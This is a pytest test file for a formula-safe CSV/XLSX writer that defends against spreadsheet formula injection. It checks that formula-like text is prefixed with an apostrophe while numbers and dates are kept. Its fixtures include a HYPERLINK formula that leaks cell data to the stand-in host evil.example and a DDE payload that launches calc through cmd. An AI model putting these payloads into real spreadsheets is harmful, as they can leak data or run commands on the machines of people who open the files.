"""The formula-safe CSV/XLSX writer (OWASP CSV injection): text that a spreadsheet would run is neutralised,
numbers and dates stay what they are."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ivp.core.tabular import (
    append_row,
    csv_dict_writer,
    csv_writer,
    neutralise,
    new_workbook,
    workbook_bytes,
)

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"klik")'


@pytest.mark.parametrize("text", [
    PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "\uff1dHYPERLINK(\"x\")", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\ufe66 1", "\u22121", "\u3000=1",
])
def test_formula_starts_are_prefixed(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Wijkaanpak", "1234,56", "-1234,56", "+31", "-12.5", "2024-01-01x",
                                  "Plan = 3 thema's", "a-b", "e-mail@example.org"])
def test_ordinary_text_and_plain_numbers_are_kept(text):
    assert neutralise(text) == text


def test_csv_writers_neutralise_text_and_keep_numbers():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["titel", "bedrag"])
    writer.writerows([[PAYLOAD, -5], ["@cmd", Decimal("-1.25")]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["titel", "bedrag"], ["'" + PAYLOAD, "-5"], ["'@cmd", "-1.25"]]

    out = io.StringIO()
    writer = csv_dict_writer(out, ["a", "b"], delimiter=";", restval="")
    writer.writeheader()
    writer.writerow({"a": "-x", "b": -3})
    assert list(csv.DictReader(io.StringIO(out.getvalue()), delimiter=";")) == [{"a": "'-x", "b": "-3"}]


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    workbook = new_workbook()
    sheet = workbook.active
    append_row(sheet, ["titel", "bedrag", "datum"])
    append_row(sheet, [PAYLOAD, Decimal("-12.50"), dt.date(2024, 5, 1)])
    append_row(sheet, ["#N/A", -3, None])
    append_row(sheet, ["bel\x07l", 1.5, "=1+1"])
    loaded = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    cells = [c for row in loaded.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    rows = list(loaded.active.iter_rows(min_row=2, values_only=True))
    assert rows[0][0] == "'" + PAYLOAD and rows[0][1] == -12.5 and rows[0][2].date() == dt.date(2024, 5, 1)
    assert rows[1] == ("#N/A", -3, None)
    assert rows[2] == ("bell", 1.5, "'=1+1")  # a control character a worksheet cannot hold is dropped


def test_excel_nl_csv_bom_separator_decimal_comma_comments_and_formulas():
    from ivp.core.tabular import excel_nl_csv, excel_nl_number

    body = excel_nl_csv(notes=["Bron: Politie; periode 2024", "tweede\nregel"], header=["naam", "cijfer"],
                        rows=[["=SUM(A1)", excel_nl_number(30.4735, 1)], ["Vught", excel_nl_number(986)],
                              ["leeg", excel_nl_number(None)], ["-5", excel_nl_number(-1234.5, 2)]])
    assert body.startswith(b"\xef\xbb\xbf")
    lines = body.decode("utf-8-sig").split("\r\n")
    assert lines[:2] == ["# Bron: Politie, periode 2024", "# tweede regel"]
    assert lines[2:] == ["naam;cijfer", "'=SUM(A1);30,5", "Vught;986", "leeg;", "-5;-1234,50", ""]
